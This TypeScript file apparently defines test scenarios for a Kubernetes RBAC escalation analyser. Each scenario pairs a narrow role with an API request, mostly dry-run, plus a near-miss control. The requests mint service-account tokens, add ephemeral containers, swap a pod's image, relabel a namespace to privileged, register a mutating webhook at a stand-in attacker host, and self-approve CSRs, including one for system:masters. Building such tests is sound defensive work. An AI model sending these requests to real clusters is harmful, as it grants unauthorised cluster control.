/**
 * Escalation scenarios for the newer RBAC techniques: service-account tokens by name, ephemeral containers,
 * patching pods, relabelling a namespace's Pod Security level, admission webhooks and CSR self-approval. Each
 * gives one test user some RBAC in its own namespace; near misses sit beside each escalation.
 */
import {
  type Attempt,
  clusterRoleWithBinding,
  roleWithBinding,
  rule,
  type Scenario,
  serviceAccount,
} from './scenarios.js';

const CERTS = ['certificates.k8s.io'];
const ADMISSION = ['admissionregistration.k8s.io'];
const ENFORCE = 'pod-security.kubernetes.io/enforce';
const CLIENT_SIGNER = 'kubernetes.io/kube-apiserver-client';

const pod = (ns: string) => ({
  apiVersion: 'v1',
  kind: 'Pod',
  metadata: { name: 'running', namespace: ns },
  spec: { containers: [{ name: 'app', image: 'busybox' }] },
});

function tokenFor(ns: string, account: string): Attempt {
  return {
    what: `mint a token for ${account} in ${ns}`,
    method: 'POST',
    path: `/api/v1/namespaces/${ns}/serviceaccounts/${account}/token`,
    body: { apiVersion: 'authentication.k8s.io/v1', kind: 'TokenRequest', spec: {} },
    technique: 'create-service-account-token',
    target: `ServiceAccount/${ns}/${account}`,
  };
}

function addEphemeral(ns: string): Attempt {
  return {
    what: `add an ephemeral container to a running pod in ${ns}`,
    method: 'PATCH',
    path: `/api/v1/namespaces/${ns}/pods/running/ephemeralcontainers?dryRun=All`,
    body: { spec: { ephemeralContainers: [{ name: 'debug', image: 'busybox' }] } },
    contentType: 'application/strategic-merge-patch+json',
    technique: 'ephemeral-container',
    target: `hub:ephemeral-containers/${ns}`,
  };
}

function swapImage(ns: string): Attempt {
  return {
    what: `swap the image of a running pod in ${ns}`,
    method: 'PATCH',
    path: `/api/v1/namespaces/${ns}/pods/running?dryRun=All`,
    body: { spec: { containers: [{ name: 'app', image: 'attacker/tool' }] } },
    contentType: 'application/strategic-merge-patch+json',
    technique: 'patch-pod',
    target: `hub:patch-pods/${ns}`,
  };
}

/** Relabel the namespace privileged, then create a pod there: both must be allowed. */
function relabelAndCreate(ns: string): Attempt {
  return {
    what: `relabel namespace ${ns} to privileged and create a pod in it`,
    method: 'PATCH',
    path: `/api/v1/namespaces/${ns}?dryRun=All`,
    body: { metadata: { labels: { [ENFORCE]: 'privileged' } } },
    contentType: 'application/merge-patch+json',
    technique: 'patch-namespace-psa',
    target: 'jewel:node-root/workers',
    andThen: [
      {
        what: `create a pod in ${ns}`,
        method: 'POST',
        path: `/api/v1/namespaces/${ns}/pods?dryRun=All`,
        body: { ...pod(ns), metadata: { name: 'new', namespace: ns } },
      },
    ],
  };
}

function mutatingWebhook(name: string): Attempt {
  return {
    what: 'register a mutating webhook',
    method: 'POST',
    path: '/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations?dryRun=All',
    body: {
      apiVersion: 'admissionregistration.k8s.io/v1',
      kind: 'MutatingWebhookConfiguration',
      metadata: { name },
      webhooks: [
        {
          name: `${name}.example.com`,
          clientConfig: { url: 'https://attacker.example.com/mutate' },
          rules: [{ apiGroups: [''], apiVersions: ['v1'], operations: ['CREATE'], resources: ['pods'] }],
          sideEffects: 'None',
          admissionReviewVersions: ['v1'],
        },
      ],
    },
    technique: 'webhook-control',
    target: 'jewel:cluster-admin',
  };
}

function csr(name: string, request: string, signerName = CLIENT_SIGNER): Record<string, unknown> {
  return {
    apiVersion: 'certificates.k8s.io/v1',
    kind: 'CertificateSigningRequest',
    metadata: { name },
    spec: { request, signerName, usages: ['client auth'] },
  };
}

/** Create a CSR for the request's subject, then approve a pending one: both must be allowed. */
function selfApprove(name: string, request: string, target: string): Attempt {
  return {
    what: `create a CSR for ${target} and approve it`,
    method: 'POST',
    path: '/apis/certificates.k8s.io/v1/certificatesigningrequests?dryRun=All',
    body: csr(`${name}-new`, request),
    technique: 'csr-signing',
    target,
    andThen: [
      {
        what: 'approve the CSR',
        method: 'PATCH',
        path: `/apis/certificates.k8s.io/v1/certificatesigningrequests/${name}/approval?dryRun=All`,
        body: { status: { conditions: [{ type: 'Approved', status: 'True', reason: 'x', message: 'x' }] } },
        contentType: 'application/merge-patch+json',
      },
    ],
  };
}

/** Certificate requests (base64 PEM) for a subject: `CN=<user>` and `O=<group>`. */
export type CsrFor = (subject: { readonly user: string; readonly group: string }) => string;

/** A binding that names a group, so the model knows it (view: harmless). */
function groupBinding(ns: string, name: string): Record<string, unknown> {
  return {
    apiVersion: 'rbac.authorization.k8s.io/v1',
    kind: 'RoleBinding',
    metadata: { name: 'team', namespace: ns },
    roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'view' },
    subjects: [{ kind: 'Group', name, apiGroup: 'rbac.authorization.k8s.io' }],
  };
}

/** Every scenario; `csrFor` makes the certificate requests the CSR scenarios send. */
export function catalogueScenarios(csrFor: CsrFor): Scenario[] {
  const list: Scenario[] = [];
  const add = (
    name: string,
    build: (user: string, ns: string) => Omit<Scenario, 'name' | 'user' | 'namespace'>,
  ): void => {
    const user = `cat-${name}`;
    list.push({ name, user, namespace: user, ...build(user, user) });
  };
  add('token-by-name', (user, ns) => ({
    objects: [
      serviceAccount(ns, 'target'),
      ...roleWithBinding(ns, 't', user, [rule(['create'], ['serviceaccounts/token'], [''], ['target'])]),
    ],
    attempts: [tokenFor(ns, 'target')],
  }));
  add('token-other-name', (user, ns) => ({
    objects: [
      serviceAccount(ns, 'target'),
      ...roleWithBinding(ns, 't', user, [rule(['create'], ['serviceaccounts/token'], [''], ['other'])]),
    ],
    attempts: [tokenFor(ns, 'target')],
  }));
  add('ephemeral', (user, ns) => ({
    objects: roleWithBinding(ns, 'e', user, [rule(['patch'], ['pods/ephemeralcontainers'])]),
    setup: [pod(ns)],
    attempts: [addEphemeral(ns)],
  }));
  add('ephemeral-via-pods', (user, ns) => ({
    objects: roleWithBinding(ns, 'e', user, [rule(['patch'], ['pods'])]),
    setup: [pod(ns)],
    attempts: [addEphemeral(ns)],
  }));
  add('patch-pod', (user, ns) => ({
    objects: roleWithBinding(ns, 'p', user, [rule(['patch'], ['pods'])]),
    setup: [pod(ns)],
    attempts: [swapImage(ns)],
  }));
  add('patch-pod-status-only', (user, ns) => ({
    objects: roleWithBinding(ns, 'p', user, [rule(['patch'], ['pods/status'])]),
    setup: [pod(ns)],
    attempts: [swapImage(ns)],
  }));
  const guarded = (ns: string) => ({
    apiVersion: 'v1',
    kind: 'Namespace',
    metadata: { name: ns, labels: { [ENFORCE]: 'baseline' } },
  });
  // The API server takes a Namespace's own name as the request namespace: a RoleBinding there patches it.
  add('relabel-own-namespace', (user, ns) => ({
    objects: [
      guarded(ns),
      ...roleWithBinding(ns, 'n', user, [rule(['patch'], ['namespaces']), rule(['create'], ['pods'])]),
    ],
    attempts: [relabelAndCreate(ns)],
  }));
  add('relabel-without-pods', (user, ns) => ({
    objects: [guarded(ns), ...roleWithBinding(ns, 'n', user, [rule(['patch'], ['namespaces'])])],
    attempts: [relabelAndCreate(ns)],
  }));
  add('relabel-by-other-name', (user, ns) => ({
    objects: [
      guarded(ns),
      ...clusterRoleWithBinding(ns, user, [rule(['patch'], ['namespaces'], [''], ['elsewhere'])]),
      ...roleWithBinding(ns, 'p', user, [rule(['create'], ['pods'])]),
    ],
    attempts: [relabelAndCreate(ns)],
  }));
  add('webhook', (user, ns) => ({
    objects: clusterRoleWithBinding(ns, user, [
      rule(['create'], ['mutatingwebhookconfigurations'], ADMISSION),
    ]),
    attempts: [mutatingWebhook(ns)],
  }));
  add('webhook-read-only', (user, ns) => ({
    objects: clusterRoleWithBinding(ns, user, [
      rule(['get', 'list'], ['mutatingwebhookconfigurations'], ADMISSION),
    ]),
    attempts: [mutatingWebhook(ns)],
  }));
  const csrRules = (signer: string) => [
    rule(['create'], ['certificatesigningrequests'], CERTS),
    rule(['patch', 'update'], ['certificatesigningrequests/approval'], CERTS),
    rule(['approve'], ['signers'], CERTS, [signer]),
  ];
  const team = (ns: string) => csrFor({ user: 'attacker', group: `${ns}-team` });
  add('csr-client-signer', (user, ns) => ({
    objects: [groupBinding(ns, `${ns}-team`), ...clusterRoleWithBinding(ns, user, csrRules(CLIENT_SIGNER))],
    setup: [csr(ns, team(ns))],
    attempts: [selfApprove(ns, team(ns), `Group/${ns}-team`)],
  }));
  // The CertificateSubjectRestriction admission plugin refuses system:masters for this signer.
  add('csr-system-masters', (user, ns) => ({
    objects: [groupBinding(ns, `${ns}-team`), ...clusterRoleWithBinding(ns, user, csrRules(CLIENT_SIGNER))],
    setup: [csr(ns, team(ns))],
    attempts: [selfApprove(ns, csrFor({ user: 'attacker', group: 'system:masters' }), 'jewel:cluster-admin')],
  }));
  add('csr-other-signer', (user, ns) => ({
    objects: [
      groupBinding(ns, `${ns}-team`),
      ...clusterRoleWithBinding(ns, user, csrRules('example.com/signer')),
    ],
    setup: [csr(ns, team(ns))],
    attempts: [selfApprove(ns, team(ns), `Group/${ns}-team`)],
  }));
  return list;
}
